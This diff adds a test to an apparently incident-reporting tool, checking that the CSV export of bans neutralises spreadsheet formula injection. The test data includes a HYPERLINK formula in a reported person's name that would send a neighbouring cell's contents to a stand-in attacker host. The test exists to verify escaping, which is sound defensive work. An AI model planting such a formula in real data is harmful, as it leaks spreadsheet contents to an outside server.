@@ -76,3 +76,31 @@ describe.skipIf(!hasAgeCli())("attacks through an e-mail's attachments", () => {
     expect(evidence.map((e) => e.body.name)).toEqual(["attachment-1.txt"]);
   });
 });
+
+describe("attacks on the register as CSV", () => {
+  it("a name, contact or handle a report gave that a spreadsheet would run as a formula is written as text", async () => {
+    const report = `received_at: 2026-06-01T09:00:00Z
+channel: email
+reporter: { name: Robin, contact: robin@example.net }
+incident:
+  summary: At the social
+  description: Someone kept touching my shoulder.
+  people:
+    - { name: '=HYPERLINK("https://evil.example/?"&A3,"Pat")', role: reported, contact: "+1 555 0100", handles: ["@pat", "-2+3"] }
+consent: { contact_reported: yes }
+`;
+    const now = new Date("2026-06-02T10:00:00Z");
+    const made = await world.run(["new-report", "--from", "-"], { as: alice, cwd: repo, stdin: report, now });
+    expect(made.code, made.stderr).toBe(0);
+    const decision = "stage: final\nviolation: \"yes\"\nfinding: touching\nactions:\n  - { level: remove from the event without refund, scope: event }\ndecided_by: [alice, bob]\n";
+    const decided = await world.run(["decide", made.stdout.trim(), "--from", "-"], { as: alice, cwd: repo, stdin: decision, now });
+    expect(decided.code, decided.stderr).toBe(0);
+    const r = await world.run(["bans", "--all", "--format", "csv"], { as: alice, cwd: repo, now });
+    expect(r.code, r.stderr).toBe(0);
+    const { parse } = await import("csv-parse/sync");
+    const rows = parse(r.stdout) as string[][];
+    expect(rows).toHaveLength(2);
+    expect(rows[1]!.slice(0, 3)).toEqual([`'=HYPERLINK("https://evil.example/?"&A3,"Pat")`, "'+1 555 0100", "'@pat -2+3"]);
+    for (const cell of rows.flat()) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
+});
